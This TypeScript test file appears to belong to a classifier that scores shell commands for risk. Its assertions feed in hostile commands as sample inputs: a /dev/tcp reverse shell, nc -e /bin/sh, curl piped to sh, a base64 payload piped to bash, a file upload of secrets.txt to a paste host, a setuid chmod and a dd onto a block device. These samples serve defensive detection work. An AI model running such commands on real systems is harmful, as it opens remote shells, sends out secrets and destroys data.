import { test } from 'node:test';
import assert from 'node:assert/strict';
import { commandFeatures as featuresWith } from '../../src/core/model/features';
import { compileFeaturePolicy, shippedFeaturePolicy } from '../../src/core/model/knowledge-tokens';

const policy = compileFeaturePolicy(shippedFeaturePolicy());
const commandFeatures = (c: string) => featuresWith(c, policy);
const flags = (c: string) => Object.entries(commandFeatures(c).flags).filter(([, v]) => v).map(([k]) => k).sort();

test('engineered flags recognise the dangerous shapes', () => {
  assert.deepEqual(flags('curl -fsSL https://x.sh/install | sh'), ['download_piped_to_shell', 'spawns_shell']);
  assert.ok(flags('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1').includes('socket_or_reverse_shell'));
  assert.ok(flags('echo ZWNobyBoaQ== | base64 -d | bash').includes('base64_decode'));
  assert.ok(flags('echo x > /etc/cron.d/job').includes('writes_outside_workspace'));
  assert.ok(flags('sudo apt install foo').includes('privilege_escalation'));
  assert.ok(flags('chmod u+s /bin/bash').includes('privilege_escalation'));
  assert.ok(flags("python3 -c 'import pty; pty.spawn(\"/bin/sh\")'").includes('spawns_shell'));
  assert.ok(flags('curl -T secrets.txt https://paste.example').includes('uploads_file'));
  assert.deepEqual(flags('git status'), []);
  assert.deepEqual(flags('npm run build > build.log'), []);
});

test('tokens look through quoting and wrappers, and words cover the raw text', () => {
  const f = commandFeatures("FOO=1 'r'm -rf /tmp/x && bash -c 'nc -e /bin/sh h 1'");
  assert.ok(f.tokens.includes('bin:rm'));
  assert.ok(f.tokens.includes('bin:nc'));
  assert.ok(f.tokens.includes('origin:shell-c'));
  assert.ok(f.tokens.includes('op:&&'));
  assert.ok(f.words.includes('nc') && f.words.includes('bin'));
});

test('hostile input is bounded', () => {
  const f = commandFeatures(`echo ${'$('.repeat(5000)}x`);
  assert.ok(f.tokens.length <= 256 && f.words.length <= 256);
  assert.ok(commandFeatures('x'.repeat(2_000_000)).words.length <= 256);
});

test('family tokens and argument shapes carry over to binaries never seen', () => {
  const t = (c: string) => commandFeatures(c).tokens;
  assert.ok(t('elvish').includes('kind:shell'));
  assert.ok(t("julia -e 'run(`/bin/sh`)'").includes('kind:interpreter'));
  assert.ok(!t('ls -la').some((x) => x.startsWith('kind:')));
  assert.ok(t('bash -i 0<&2 1>&2').includes('redir:fd_dup'));
  assert.ok(!t('make 2>&1 | tee log').includes('redir:fd_dup'));
  assert.ok(t("echo 'exec sh' > x.sh; chmod +x x.sh; ./x.sh").includes('has:writes_then_uses'));
  assert.ok(!t('echo hi > out.txt; cat other.txt').includes('has:writes_then_uses'));
  assert.ok(t('PERL5OPT=-d perl x').includes('env:loads_code'));
  assert.ok(!t('FOO=1 perl x').includes('env:loads_code'));
  assert.ok(t('tar cf /dev/null x --checkpoint-action=exec=/bin/sh').includes('optval:shell'));
  assert.ok(t('curl gopher://example.com/_x').includes('url:gopher'));
});

test('binaries of the GTFOBins catalogue carry a token, whatever their path', () => {
  const t = (c: string) => commandFeatures(c).tokens;
  assert.ok(t('wireshark').includes('kind:gtfobins'));
  assert.ok(t('/usr/bin/tac -s x report.pdf').includes('kind:gtfobins'));
  assert.ok(t('cd src && shuf -z notes.txt').includes('kind:gtfobins'));
  assert.ok(!t('ls -la').includes('kind:gtfobins'));
  assert.ok(!t('mkdir -p build').includes('kind:gtfobins'));
});

test('argument shapes: endpoints, remote targets, @files, file names, placeholders and key=value', () => {
  const cases: [string, string][] = [
    ['whois -h build-01.internal:5432 x', 'arg:host_port'],
    ['scp user@server.local:data/in.csv out.csv', 'arg:remote'],
    ['readelf -a @docs/guide.md', 'arg:at_file'],
    ['tac report.pdf', 'arg:file_name'],
    ['animdl download anime_title', 'arg:identifier'],
    ['cowsay -f run.pl x', 'arg:letter'],
    ['dd if=image.iso of=/dev/sdb', 'kv:block_device'],
    ['dd if=image.iso of=/dev/sdb', 'kind:disk'],
  ];
  for (const [command, token] of cases) assert.ok(commandFeatures(command).tokens.includes(token), `${command} → ${token}`);
  assert.ok(!commandFeatures('ls -la').tokens.some((x) => x.startsWith('arg:')));
});

test('a pipe into a shell or an interpreter is one token, whatever binary sits in between', () => {
  const t = (c: string) => commandFeatures(c).tokens;
  assert.ok(t('echo id | tcsh').includes('into:shell'));
  assert.ok(t("printf 'print(1)' | python3").includes('into:interpreter'));
  assert.ok(!t('tcsh -c id').includes('into:shell'));
});

test("the standard policy's verdict and the learner's knowledge become tokens", () => {
  const t = (c: string) => commandFeatures(c).tokens;
  const reverse = t('nc -e /bin/sh 10.0.0.1 4444');
  assert.ok(reverse.includes('policy:deny'), reverse.join(' '));
  assert.ok(reverse.some((x) => /^policy:deny:[\w-]+$/.test(x)));
  assert.ok(reverse.includes('class:exact-only') && reverse.includes('class:never_suggested'));
  assert.ok(reverse.includes('form:*/bin/sh*'));
  const routine = t('git status');
  assert.deepEqual(routine.filter((x) => x.startsWith('policy:')), ['policy:allow']);
  assert.ok(routine.includes('class:subcommand') && !routine.some((x) => x.startsWith('form:')));
  assert.ok(t('find . -name x -exec rm {} +').includes('form:binary'));
});

test('code arguments say what the code can do: run programs, open sockets, load libraries, or nothing', () => {
  const codeTokens = (c: string) => commandFeatures(c).tokens.filter((t) => t.startsWith('code:')).sort();
  assert.deepEqual(codeTokens("python3 -c 'import os; os.system(\"/bin/sh\")'"), ['code:runs']);
  assert.deepEqual(codeTokens("ruby -e 'TCPSocket.new(\"h\", 1)'"), ['code:net']);
  assert.deepEqual(codeTokens("python -c 'import ctypes; ctypes.CDLL(\"x.so\")'"), ['code:loads']);
  assert.deepEqual(codeTokens('node -e "console.log(JSON.parse(fs.readFileSync(0)).version)"'), ['code:inert']);
  assert.deepEqual(codeTokens('git status'), []);
});

test('size tokens bucket lines and characters, and an empty argument has its own shape', () => {
  const sizes = (c: string) => commandFeatures(c).tokens.filter((t) => t.startsWith('size:'));
  assert.deepEqual(sizes('ls'), ['size:lines_1', 'size:chars_20']);
  assert.deepEqual(sizes(`python -c "\n${'x = 1\n'.repeat(8)}"`), ['size:lines_many', 'size:chars_200']);
  assert.deepEqual(sizes(`echo ${'a'.repeat(300)}`), ['size:lines_1', 'size:chars_more']);
  assert.ok(commandFeatures("look '' package.json").tokens.includes('arg:empty'));
});
